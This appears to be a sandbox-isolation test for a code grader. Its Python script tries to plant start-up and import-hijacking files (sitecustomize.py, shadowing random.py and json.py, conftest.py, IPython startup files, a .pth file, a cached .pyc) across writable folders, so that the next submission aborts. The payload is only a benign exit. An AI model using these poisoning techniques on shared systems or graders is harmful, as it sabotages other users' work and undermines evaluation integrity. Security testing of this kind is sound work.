# behaviour: 75 poisons what the next submission reads: caches, start files, temporary folders
# base: solution
# good: notebook
# expected: some_values=passed
# levels: namespaces landlock
# why: at this level everything that the user may write can be written

import os, sys
EVIL = "raise SystemExit('poisoned by an earlier submission')\n"
HARMLESS = "# left by a test of the grader\n"
home = os.environ.get("HOME", ".")
for place in (sys.prefix, os.path.dirname(os.__file__), "/root/.cache/lookahead-grader/matplotlib", "/var/tmp"):
    try:
        open(f"{place}/{TOKEN}-poison.py", "w").write(HARMLESS)
    except OSError:
        pass
for place in (".", "..", home, "/tmp", "/box", "/dev/shm", os.environ.get("MPLCONFIGDIR", "."),
              os.environ.get("TMPDIR", ".")):
    for name in ("sitecustomize.py", "usercustomize.py", "random.py", "json.py", "_figkit.py", "conftest.py",
                 "matplotlibrc", ".ipython/profile_default/startup/00.py", "ipython_config.py",
                 "w/random.py", "__pycache__/random.cpython-311.pyc", ".local/lib/python3.11/site-packages/evil.pth"):
        try:
            path = os.path.join(place, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            if not os.path.exists(path):
                open(path, "w").write(EVIL)
        except OSError:
            pass
